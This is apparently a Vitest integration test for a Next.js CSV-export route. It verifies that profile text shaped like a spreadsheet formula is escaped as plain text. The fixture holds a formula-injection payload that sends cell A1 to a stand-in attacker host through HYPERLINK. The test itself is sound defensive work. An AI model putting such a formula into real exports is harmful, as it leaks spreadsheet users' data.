import { parse } from "csv-parse/sync";
import { beforeAll, describe, expect, it, vi } from "vitest";
import type { GET as TGet } from "~/app/[locale]/compare/csv/route";
import { canonicalText } from "~/domain/rcp/profile-canonical";
import type { TLocale } from "~/i18n/routing";
import { createRcp, createUser } from "../support/factories";
import { saveChange } from "../support/profiles";

// Outside a Next server there is no request-scoped i18n config: translate with the app's own
// messages, as the server would.
vi.mock("next-intl/server", async () => {
  const { createTranslator } = await import("next-intl");
  const { messages } = await import("~/i18n/messages");
  return {
    getTranslations: ({ locale, namespace }: { locale: TLocale; namespace: "Compare" | "Rcp" }) =>
      Promise.resolve(createTranslator({ locale, messages: messages[locale], namespace })),
  };
});

let GET: typeof TGet;

beforeAll(async () => {
  // The route reads the app's validated environment on import, as the server does at start-up.
  vi.stubEnv("NEXTAUTH_SECRET", "integration-test-secret-of-enough-length");
  ({ GET } = await import("~/app/[locale]/compare/csv/route"));
});

async function downloadCsv(locale: string) {
  const response = await GET(new Request(`http://rcp-exchange.test/${locale}/compare/csv`), {
    params: Promise.resolve({ locale }),
  });
  const rows: string[][] = parse(await response.text(), { bom: true });
  return { response, rows };
}

describe("/<locale>/compare/csv", () => {
  it("gives a profile text that starts like a formula to spreadsheets as plain text", async () => {
    const rcp = await createRcp();
    const editor = await createUser({ staff: [{ rcpId: rcp.id, role: "EDITOR" }] });
    const formula = '=HYPERLINK("https://attacker.example/?"&A1,"Details")';
    await saveChange(rcp.id, editor.id, (data) => {
      data.description = canonicalText({ en: formula });
    });

    const { response, rows } = await downloadCsv("en");

    expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    const shortName = `Test RCP ${rcp.slug.replace("test-rcp-", "")}`;
    const row = rows.find((cells) => cells[0]?.startsWith(shortName));
    expect(row).toContain(`'${formula}`);
    expect(rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
  });
});
